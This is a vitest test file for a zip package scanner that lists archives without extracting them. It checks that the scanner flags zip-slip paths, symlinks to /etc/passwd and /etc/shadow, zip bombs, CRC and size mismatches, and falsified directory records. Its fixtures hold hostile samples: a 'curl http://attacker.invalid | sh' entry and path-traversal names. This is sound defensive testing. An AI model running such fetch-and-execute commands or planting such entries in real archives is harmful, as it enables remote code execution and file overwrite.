import { readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { crc32 } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import {
  type ArchiveProblem,
  DEFAULT_LISTING_LIMITS,
  listArchive,
  zipSlipReason,
} from '../../../src/core/snapshot/archive.js'
import { archiveFindings } from '../../../src/core/snapshot/function.js'
import { tempDir } from '../../support/cli.js'
import { handlerZip, hostileZip, makeZip, sha256Hex, type ZipEntrySpec } from '../../support/seed.js'

async function writeZip(bytes: Buffer): Promise<{ dir: string; path: string }> {
  const dir = await tempDir('fir-archive-')
  const path = join(dir, 'package.zip')
  await writeFile(path, bytes)
  return { dir, path }
}

describe('listArchive', () => {
  it('lists an ordinary package with sizes, CRC and the SHA-256 of each entry', async () => {
    const { path } = await writeZip(handlerZip('plain'))
    const l = await listArchive(path)
    expect(l.problems).toEqual([])
    expect(l.entries).toHaveLength(1)
    const e = l.entries[0]!
    expect(e).toMatchObject({ name: 'index.py', type: 'file', mode: '100644' })
    expect(e.sha256).toMatch(/^[0-9a-f]{64}$/)
    expect(e.crc32).toMatch(/^[0-9a-f]{8}$/)
  })

  it('flags zip-slip names, a symlink out of the archive and a 1000:1 bomb without extracting anything', async () => {
    const { dir, path } = await writeZip(hostileZip(4))
    const l = await listArchive(path)
    const kinds = l.problems.map((p) => `${p.kind}:${p.entry ?? ''}`)
    expect(kinds).toEqual(
      expect.arrayContaining([
        'zip-slip:../../evil.sh',
        'zip-slip:/tmp/abs-path.txt',
        'zip-slip:..\\..\\win-evil.bat',
        'symlink:link-to-passwd',
        'zip-bomb:bomb.bin',
      ]),
    )
    const link = l.entries.find((e) => e.name === 'link-to-passwd')!
    expect(link).toMatchObject({ type: 'symlink', linkTarget: '/etc/passwd' })
    const bomb = l.entries.find((e) => e.name === 'bomb.bin')!
    expect(bomb.uncompressedSize / bomb.compressedSize).toBeGreaterThan(500)
    expect(bomb.sha256).toBeUndefined()
    expect(bomb.notHashed).toMatch(/bomb/)
    // Listing wrote nothing: the folder holds only the archive itself.
    expect(await readdir(dir)).toEqual(['package.zip'])
  })

  it('flags names the records disagree on: a local header naming another file, and a name used twice', async () => {
    const { path } = await writeZip(
      makeZip([
        { name: 'safe/fil.py', localName: '../../ev.py', data: 'import os' },
        { name: 'dup.txt', data: 'first' },
        { name: 'dup.txt', data: 'second, what runs?' },
        { name: 'index.py', data: 'def handler(e, c):\n    return 1\n' },
      ]),
    )
    const l = await listArchive(path)
    expect(l.problems.map((p) => `${p.kind}:${p.entry}`)).toEqual([
      'ambiguous-name:safe/fil.py',
      'zip-slip:../../ev.py',
      'ambiguous-name:dup.txt',
    ])
    expect(l.problems[0]!.detail).toContain('"../../ev.py"')
    expect(l.entries).toHaveLength(4)
    // An ordinary package has no such problem.
    expect((await listArchive((await writeZip(handlerZip('plain'))).path)).problems).toEqual([])
  })

  it('keeps raw hostile names visible (control characters, invalid UTF-8) with their bytes', async () => {
    const raw = Buffer.concat([
      Buffer.from('evil'),
      Buffer.from([0x1b, 0x5b, 0x33, 0x31, 0x6d, 0xff]),
      Buffer.from('.py'),
    ])
    const { path } = await writeZip(makeZip([{ name: raw, data: 'x = 1' }]))
    const l = await listArchive(path)
    expect(l.entries[0]!.rawName).toBe(raw.toString('base64'))
    expect(l.entries[0]!.name).toContain('\u001b')
  })

  it('reports a corrupt central directory or a file that is not a zip, without throwing', async () => {
    const corrupt = await writeZip(
      makeZip([{ name: 'a.py', data: 'print(1)' }], { corruptCentralDirectory: true }),
    )
    const l = await listArchive(corrupt.path)
    expect(l.problems.map((p) => p.kind)).toContain('corrupt')
    const notZip = await writeZip(Buffer.from('this is not a zip archive at all'))
    const m = await listArchive(notZip.path)
    expect(m.problems[0]?.kind).toBe('corrupt')
    expect(m.entries).toEqual([])
  })

  it('hashes entries as stored (the hash is of the uncompressed bytes)', async () => {
    const data = 'def handler(e, c):\n    return 42\n'.repeat(20)
    const { path } = await writeZip(makeZip([{ name: 'app.py', data }]))
    const l = await listArchive(path)
    expect(l.entries[0]!.sha256).toBe(sha256Hex(data))
    expect(l.entries[0]!.method).toBe(8)
  })

  it('names the ways an entry escapes the extraction folder', () => {
    expect(zipSlipReason('../x')).toMatch(/\.\./)
    expect(zipSlipReason('a/../../x')).toMatch(/\.\./)
    expect(zipSlipReason('/etc/cron.d/x')).toMatch(/absolute/)
    expect(zipSlipReason('C:/Windows/x')).toMatch(/drive/)
    expect(zipSlipReason('a\\b')).toMatch(/backslash/)
    expect(zipSlipReason('a/b..c/d')).toBeUndefined()
    expect(zipSlipReason('node_modules/x/index.js')).toBeUndefined()
  })
})

// A package whose hostile entries come last: a lie before them must not hide them.
function tailHostileZip(first: ZipEntrySpec[] = []): Buffer {
  return makeZip([
    { name: 'index.py', data: 'def handler(e, c):\n    return 1\n' },
    { name: 'app.py', data: 'x = 1\n'.repeat(30) },
    ...first,
    { name: '../../../../var/task/evil.sh', data: 'curl http://attacker.invalid | sh' },
    { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
  ])
}

/** Where each central directory record starts (as a well-formed end record says). */
function centralRecords(zip: Buffer): number[] {
  const end = zip.length - 22
  let at = zip.readUInt32LE(end + 16)
  const out: number[] = []
  for (let i = 0; i < zip.readUInt16LE(end + 10); i++) {
    out.push(at)
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32)
  }
  return out
}

/** The same archive with a zip64 end record and locator, the 32-bit end record's fields maxed. */
function asZip64(zip: Buffer, entries?: number): Buffer {
  const end = zip.length - 22
  const record = Buffer.alloc(56)
  record.writeUInt32LE(0x06064b50, 0)
  record.writeBigUInt64LE(44n, 4)
  record.writeUInt16LE(45, 12)
  record.writeUInt16LE(45, 14)
  const count = BigInt(entries ?? zip.readUInt16LE(end + 10))
  record.writeBigUInt64LE(count, 24)
  record.writeBigUInt64LE(count, 32)
  record.writeBigUInt64LE(BigInt(zip.readUInt32LE(end + 12)), 40)
  record.writeBigUInt64LE(BigInt(zip.readUInt32LE(end + 16)), 48)
  const locator = Buffer.alloc(20)
  locator.writeUInt32LE(0x07064b50, 0)
  locator.writeBigUInt64LE(BigInt(end), 8)
  locator.writeUInt32LE(1, 16)
  const eocd = Buffer.from(zip.subarray(end))
  eocd.writeUInt16LE(0xffff, 8)
  eocd.writeUInt16LE(0xffff, 10)
  eocd.writeUInt32LE(0xffffffff, 12)
  eocd.writeUInt32LE(0xffffffff, 16)
  return Buffer.concat([zip.subarray(0, end), record, locator, eocd])
}

function kindsOf(l: Awaited<ReturnType<typeof listArchive>>): string[] {
  return l.problems.map((p) => `${p.kind}:${p.entry ?? ''}`)
}

const TAIL = ['index.py', 'app.py', '../../../../var/task/evil.sh', 'lnk']

describe('listArchive: a lie in the central directory hides no entry', () => {
  it('a stored entry whose two sizes differ by one byte is flagged, and the zip-slip and symlink after it still are', async () => {
    // yauzl stops the whole directory at such an entry; unzip -l lists all four.
    const { dir, path } = await writeZip(
      makeZip([
        { name: 'index.py', data: 'def handler(e,c):\n  return 1\n' },
        { name: 'liar.bin', data: 'small', declaredUncompressedSize: 6 },
        { name: '../../../../var/task/evil.sh', data: 'curl x|sh' },
        { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
      ]),
    )
    const l = await listArchive(path)
    expect(l.entries.map((e) => e.name)).toEqual([
      'index.py',
      'liar.bin',
      '../../../../var/task/evil.sh',
      'lnk',
    ])
    expect(kindsOf(l)).toEqual([
      'size-mismatch:liar.bin',
      'zip-slip:../../../../var/task/evil.sh',
      'symlink:lnk',
    ])
    expect(l.problems[0]!.detail).toMatch(/5 bytes stored and 6 bytes uncompressed/)
    expect(l.entries[3]).toMatchObject({ type: 'symlink', linkTarget: '/etc/shadow' })
    expect(l.entries[2]!.sha256).toBe(sha256Hex('curl x|sh'))
    expect(l.error).toBeUndefined()
    expect(await readdir(dir)).toEqual(['package.zip'])
  })

  it('a deflated entry whose data is longer or shorter than declared is flagged, and never inflated past its declared size', async () => {
    const data = 'x = 1\n'.repeat(30)
    for (const declared of [data.length - 1, data.length + 1]) {
      const { path } = await writeZip(
        tailHostileZip([{ name: 'liar.py', data, method: 'deflate', declaredUncompressedSize: declared }]),
      )
      const l = await listArchive(path)
      expect(l.entries.map((e) => e.name)).toEqual([...TAIL.slice(0, 2), 'liar.py', ...TAIL.slice(2)])
      expect(kindsOf(l)).toEqual([
        'size-mismatch:liar.py',
        'zip-slip:../../../../var/task/evil.sh',
        'symlink:lnk',
      ])
      const liar = l.entries.find((e) => e.name === 'liar.py')!
      if (declared < data.length) {
        expect(l.problems[0]!.detail).toMatch(/inflates to more than the 179 bytes/)
        expect(liar.sha256).toBeUndefined()
      } else {
        expect(l.problems[0]!.detail).toMatch(/holds 180 bytes, .* declares 181/)
        expect(liar.sha256).toBe(sha256Hex(data))
      }
    }
  })

  it('a local header declaring other sizes than the central directory is flagged', async () => {
    const zip = tailHostileZip()
    const record = centralRecords(zip)[1]!
    zip.writeUInt32LE(4096, zip.readUInt32LE(record + 42) + 22)
    const l = await listArchive((await writeZip(zip)).path)
    expect(kindsOf(l)).toEqual([
      'size-mismatch:app.py',
      'zip-slip:../../../../var/task/evil.sh',
      'symlink:lnk',
    ])
    expect(l.problems[0]!.detail).toMatch(/local file header declares .* 4096 uncompressed/)
  })

  /** The archive with entry `i`'s CRC-32 set to `crc` in its central record and, unless told, its local header. */
  function withCrc(zip: Buffer, i: number, crc: number, { local = true } = {}): Buffer {
    const record = centralRecords(zip)[i]!
    zip.writeUInt32LE(crc, record + 16)
    if (local) zip.writeUInt32LE(crc, zip.readUInt32LE(record + 42) + 14)
    return zip
  }

  it('an entry whose data does not match its CRC-32 is flagged (stored or deflated), still hashed, and hides nothing after it', async () => {
    // index.py is stored, app.py deflated; unzip and Python's zipfile refuse both.
    const zip = withCrc(withCrc(tailHostileZip(), 0, 0xdeadbeef), 1, 0x12345678)
    const l = await listArchive((await writeZip(zip)).path)
    expect(l.entries.map((e) => e.name)).toEqual(TAIL)
    expect(kindsOf(l)).toEqual([
      'crc-mismatch:index.py',
      'crc-mismatch:app.py',
      'zip-slip:../../../../var/task/evil.sh',
      'symlink:lnk',
    ])
    const app = 'x = 1\n'.repeat(30)
    expect(l.problems[1]!.detail).toBe(
      `its data has CRC-32 ${crc32(app).toString(16).padStart(8, '0')}, its central directory record declares 12345678: extractors that check it (unzip, Python's zipfile) refuse the entry, so the SHA-256 listed is of bytes they do not write`,
    )
    expect(l.entries[0]).toMatchObject({ crc32: 'deadbeef', method: 0 })
    expect(l.entries[1]).toMatchObject({ crc32: '12345678', method: 8, sha256: sha256Hex(app) })
    const [finding] = archiveFindings('package.zip', 'fn', l.problems).filter(
      (f) => f.problem === 'crc-mismatch',
    )
    expect(finding).toMatchObject({ level: 'high' })
    expect(finding!.title).toContain('2 crc-mismatch entries: "index.py", "app.py"')
  })

  it('a stored entry damaged inside its data, sizes intact, is flagged by its CRC-32', async () => {
    const zip = tailHostileZip()
    const record = centralRecords(zip)[0]!
    const local = zip.readUInt32LE(record + 42)
    const dataAt = local + 30 + zip.readUInt16LE(local + 26)
    zip[dataAt + 5] = zip[dataAt + 5]! ^ 0x20
    const l = await listArchive((await writeZip(zip)).path)
    expect(kindsOf(l)).toEqual([
      'crc-mismatch:index.py',
      'zip-slip:../../../../var/task/evil.sh',
      'symlink:lnk',
    ])
    expect(l.problems[0]!.detail).toMatch(
      /^its data has CRC-32 [0-9a-f]{8}, its central directory record declares [0-9a-f]{8}:/,
    )
  })

  it('a local header declaring another CRC-32 than the central directory is flagged once', async () => {
    const l = await listArchive(
      (await writeZip(withCrc(tailHostileZip(), 1, 0xdeadbeef, { local: false }))).path,
    )
    expect(kindsOf(l)).toEqual([
      'crc-mismatch:app.py',
      'zip-slip:../../../../var/task/evil.sh',
      'symlink:lnk',
    ])
    expect(l.problems[0]!.detail).toMatch(
      /^its local file header declares CRC-32 [0-9a-f]{8}, the central directory deadbeef$/,
    )
  })

  // Each lie takes the archive and returns it lied about.
  const count = (n: number) => (z: Buffer) => {
    z.writeUInt16LE(n, z.length - 14)
    z.writeUInt16LE(n, z.length - 12)
    return z
  }
  it.each<[string, (z: Buffer) => Buffer, RegExp]>([
    [
      'declares 1 entry of 4',
      count(1),
      /holds 4 entries but the end record declares 1: a reader that trusts the count misses the last 3/,
    ],
    ['declares 9 entries of 4', count(9), /holds 4 entries but the end record declares 9$/],
    [
      'declares a comment that is not there',
      (z) => {
        z.writeUInt16LE(10, z.length - 2)
        return z
      },
      /declares a 10-byte comment but 0 bytes follow it/,
    ],
    [
      'is followed by bytes',
      (z) => Buffer.concat([z, Buffer.from('trailing')]),
      /declares a 0-byte comment but 8 bytes follow it/,
    ],
    [
      'declares a directory 7 bytes longer',
      (z) => {
        z.writeUInt32LE(z.readUInt32LE(z.length - 10) + 7, z.length - 10)
        return z
      },
      /central directory is (\d+) bytes but the end record declares \d+/,
    ],
    [
      'follows a stub its offsets do not count',
      (z) => Buffer.concat([Buffer.from('#!/bin/sh\nexit 0\n'), z]),
      /starts at byte \d+, not at byte \d+ .*17 bytes later/,
    ],
    [
      'puts the directory at its second record',
      (z) => {
        z.writeUInt32LE(centralRecords(z)[1]!, z.length - 6)
        return z
      },
      /puts the central directory at byte \d+ but its declared size puts it at byte \d+/,
    ],
  ])('an end record that %s: every entry is listed and the lie is said', async (_, lie, said) => {
    const l = await listArchive((await writeZip(lie(tailHostileZip()))).path)
    expect(l.entries.map((e) => e.name)).toEqual(TAIL)
    expect(kindsOf(l)).toEqual(
      expect.arrayContaining(['zip-slip:../../../../var/task/evil.sh', 'symlink:lnk']),
    )
    expect(l.entries.every((e) => e.type === 'symlink' || e.sha256)).toBe(true)
    expect(l.problems.filter((p) => p.kind === 'corrupt').map((p) => p.detail)).toEqual([
      expect.stringMatching(said),
    ])
  })

  it.each([
    [
      'points at no local header',
      (z: Buffer, at: number) => z.writeUInt32LE(999_999, at + 42),
      'corrupt:app.py',
      /no local file header at byte 999999/,
    ],
    [
      'sets the strong-encryption flag',
      (z: Buffer, at: number) => z.writeUInt16LE(0x41, at + 8),
      'encrypted:app.py',
      /encrypted/,
    ],
    [
      'declares a zip64 size without a zip64 field',
      (z: Buffer, at: number) => z.writeUInt32LE(0xffffffff, at + 20),
      'corrupt:app.py',
      /0xffffffff.*no zip64 field/,
    ],
  ])(
    'a record that %s is flagged, and the entries after it are still listed and checked',
    async (_, lie, flagged, said) => {
      const zip = tailHostileZip()
      lie(zip, centralRecords(zip)[1]!)
      const l = await listArchive((await writeZip(zip)).path)
      expect(l.entries.map((e) => e.name)).toEqual(TAIL)
      expect(kindsOf(l)).toEqual(
        expect.arrayContaining([flagged, 'zip-slip:../../../../var/task/evil.sh', 'symlink:lnk']),
      )
      expect(l.problems.find((p) => `${p.kind}:${p.entry}` === flagged)!.detail).toMatch(said)
      expect(l.entries.find((e) => e.name === 'lnk')!.linkTarget).toBe('/etc/shadow')
    },
  )

  it('a malformed extra field in one record is flagged, and the entries after it are still listed', async () => {
    const { path } = await writeZip(
      tailHostileZip([
        { name: 'odd.py', data: 'y = 2', centralExtra: Buffer.from([0x01, 0x00, 0x40, 0x00]) },
      ]),
    )
    const l = await listArchive(path)
    expect(l.entries.map((e) => e.name)).toContain('lnk')
    expect(kindsOf(l)).toEqual(['corrupt:odd.py', 'zip-slip:../../../../var/task/evil.sh', 'symlink:lnk'])
    expect(l.problems[0]!.detail).toMatch(/extra field 0x0001 runs past/)
  })

  it('a directory damaged before its end says entries may be missing and how many the end record declares', async () => {
    const zip = tailHostileZip()
    zip.writeUInt32LE(0, centralRecords(zip)[2]!)
    const l = await listArchive((await writeZip(zip)).path)
    expect(l.entries.map((e) => e.name)).toEqual(['index.py', 'app.py'])
    expect(l.problems).toEqual([
      {
        kind: 'corrupt',
        detail: expect.stringMatching(
          /damaged at byte \d+, after 2 entries: the end record declares 4 entries; entries after it may be missing/,
        ),
      },
    ])
    expect(l.error).toMatch(/after 2 entries/)
  })

  it('keeps the entry-count guard, yet the names past it are still checked: the zip-slip and symlink after the limit are flagged', async () => {
    const { path } = await writeZip(tailHostileZip())
    const l = await listArchive(path, { ...DEFAULT_LISTING_LIMITS, maxEntries: 2 })
    expect(l.entries.map((e) => e.name)).toEqual(['index.py', 'app.py'])
    expect(kindsOf(l)).toEqual(['zip-slip:../../../../var/task/evil.sh', 'symlink:lnk', 'too-many-entries:'])
    expect(l.problems[0]!.detail).toMatch(/'\.\.' segment \(past the listing limit: not listed or hashed\)/)
    expect(l.problems[1]!.detail).toMatch(/^symbolic link to "\/etc\/shadow" \(outside the archive\)/)
    expect(l.problems[2]).toEqual({
      kind: 'too-many-entries',
      detail: expect.stringMatching(
        /^4 entries, more than the 2 listed and hashed: the names and types of the 2 after them were still checked/,
      ),
    })
    const exact = await listArchive(path, { ...DEFAULT_LISTING_LIMITS, maxEntries: 4 })
    expect(exact.problems.map((p) => p.kind)).not.toContain('too-many-entries')
  })

  it('bounds the names scan too, and says the entries after it were not read at all', async () => {
    const { path } = await writeZip(tailHostileZip())
    const limits = { ...DEFAULT_LISTING_LIMITS, maxEntries: 2, maxScannedEntries: 3 }
    const l = await listArchive(path, limits)
    expect(kindsOf(l)).toEqual(['zip-slip:../../../../var/task/evil.sh', 'too-many-entries:'])
    expect(l.problems[1]).toEqual({
      kind: 'too-many-entries',
      detail: expect.stringMatching(
        /^more than 3 entries \(the end record declares 4\): .* entries after entry 3 were not read at all, so hostile entries there go unseen$/,
      ),
      unread: true,
    })
    // Hostile entries past the limit are reported up to a bound, the rest counted.
    const few = await listArchive(path, { ...DEFAULT_LISTING_LIMITS, maxEntries: 2, maxReportedBeyond: 1 })
    expect(kindsOf(few)).toEqual(['zip-slip:../../../../var/task/evil.sh', 'too-many-entries:'])
    expect(few.problems[1]!.detail).toMatch(/the first 1 hostile ones are reported, 1 more are not$/)
  })

  it('reads a zip64 end record, and checks its entry count like the 32-bit one', async () => {
    const l = await listArchive((await writeZip(asZip64(tailHostileZip()))).path)
    expect(l.entries.map((e) => e.name)).toEqual(TAIL)
    expect(kindsOf(l)).toEqual(['zip-slip:../../../../var/task/evil.sh', 'symlink:lnk'])
    const lied = await listArchive((await writeZip(asZip64(tailHostileZip(), 2))).path)
    expect(lied.entries.map((e) => e.name)).toEqual(TAIL)
    expect(lied.problems.find((p) => p.kind === 'corrupt')!.detail).toMatch(
      /holds 4 entries but the end record declares 2/,
    )
  })
})

describe('listArchive: symlinks whatever host made the archive', () => {
  const link = (name: string, host: number, mode = 0o120777): ZipEntrySpec => ({
    name,
    data: '/etc/shadow',
    mode,
    host,
    method: 'store',
  })

  it('flags a symlink made by any host an extractor makes one for, and no ordinary Windows entry', async () => {
    const { path } = await writeZip(
      makeZip([
        // Windows zips: MS-DOS bits in the low byte (archive, directory), or Python's zipfile on
        // Windows, which writes the stat mode above them.
        { name: 'index.py', data: 'def handler(e, c):\n    return 1\n', host: 0, attributes: 0x20 },
        { name: 'lib/', host: 0, attributes: 0x10 },
        { name: 'win.py', data: 'x = 1', host: 0, attributes: ((0o100666 << 16) | 0x20) >>> 0 },
        { name: 'ntfs.py', data: 'x = 2', host: 10, attributes: 0x20 },
        // Info-ZIP's unzip extracts each of these as a symlink to /etc/shadow.
        link('vms-link', 2),
        link('atari-link', 5),
        link('beos-link', 16),
        link('atheos-link', 30),
        link('fat-link', 0, 0o120644),
        link('osx-link', 19),
      ]),
    )
    const l = await listArchive(path)
    const links = ['vms-link', 'atari-link', 'beos-link', 'atheos-link', 'fat-link', 'osx-link']
    expect(kindsOf(l)).toEqual(links.map((n) => `symlink:${n}`))
    expect(new Set(l.problems.map((p) => p.detail))).toEqual(
      new Set(['symbolic link to "/etc/shadow" (outside the archive)']),
    )
    for (const n of links) {
      expect(l.entries.find((e) => e.name === n)).toMatchObject({
        type: 'symlink',
        linkTarget: '/etc/shadow',
      })
    }
    expect(l.entries.slice(0, 4).map((e) => [e.name, e.type, e.mode])).toEqual([
      ['index.py', 'file', undefined],
      ['lib/', 'directory', undefined],
      ['win.py', 'file', undefined],
      ['ntfs.py', 'file', undefined],
    ])
    expect(l.entries.find((e) => e.name === 'beos-link')!.mode).toBe('120777')
  })
})

describe('archiveFindings', () => {
  const at = (kind: ArchiveProblem['kind'], entry?: string, detail = 'x'): ArchiveProblem => ({
    kind,
    detail,
    ...(entry === undefined ? {} : { entry }),
  })
  const findings = (problems: ArchiveProblem[]) =>
    Object.fromEntries(archiveFindings('code/a.zip', 'fn', problems).map((f) => [f.problem, f]))

  it('counts the entries flagged apart from what is said of the archive as a whole, and says how many are not named', () => {
    const f = findings([
      at('zip-slip', '../a'),
      at('zip-slip', '../b'),
      at('zip-slip', '../c'),
      at('zip-slip', '../d'),
      at('zip-bomb', 'b1.bin', 'expands 900:1'),
      at('zip-bomb', 'b2.bin', 'expands 800:1'),
      at('zip-bomb', undefined, 'declares 2000000000 bytes uncompressed in total'),
    ])
    expect(f['zip-slip']!.title).toBe(
      'Package code/a.zip of fn has 4 zip-slip entries: "../a", "../b", "../c" and 1 more (listed, not extracted)',
    )
    expect(f['zip-bomb']!.title).toBe(
      'Package code/a.zip of fn has 2 zip-bomb entries: "b1.bin", "b2.bin"; is a zip bomb as a whole: declares 2000000000 bytes uncompressed in total (listed, not extracted)',
    )
    expect(f['zip-bomb']!.problems).toHaveLength(3)
  })

  it('cuts a long entry name in the title, and keeps it whole in the problems', () => {
    // Before: a 64 KB name went whole into the title, one 64,000-character terminal line.
    const long = `../${'a'.repeat(65_000)}`
    const f = findings([at('zip-slip', long)])
    expect(f['zip-slip']!.title).toBe(
      `Package code/a.zip of fn has 1 zip-slip entry: "${long.slice(0, 120)}…" (listed, not extracted)`,
    )
    expect(f['zip-slip']!.problems[0]!.entry).toBe(long)
  })

  it('gives an incomplete listing a readable title, medium when the names were still checked and high when they were not', () => {
    const checked = findings([
      at('too-many-entries', undefined, '100001 entries, more than the 100000 listed'),
    ])
    expect(checked['too-many-entries']).toMatchObject({
      level: 'medium',
      title:
        'Package code/a.zip of fn has too many entries to list: 100001 entries, more than the 100000 listed (listed, not extracted)',
    })
    const unread = findings([
      { ...at('too-many-entries', undefined, 'more than 1000000 entries'), unread: true },
    ])
    expect(unread['too-many-entries']!.level).toBe('high')
  })
})
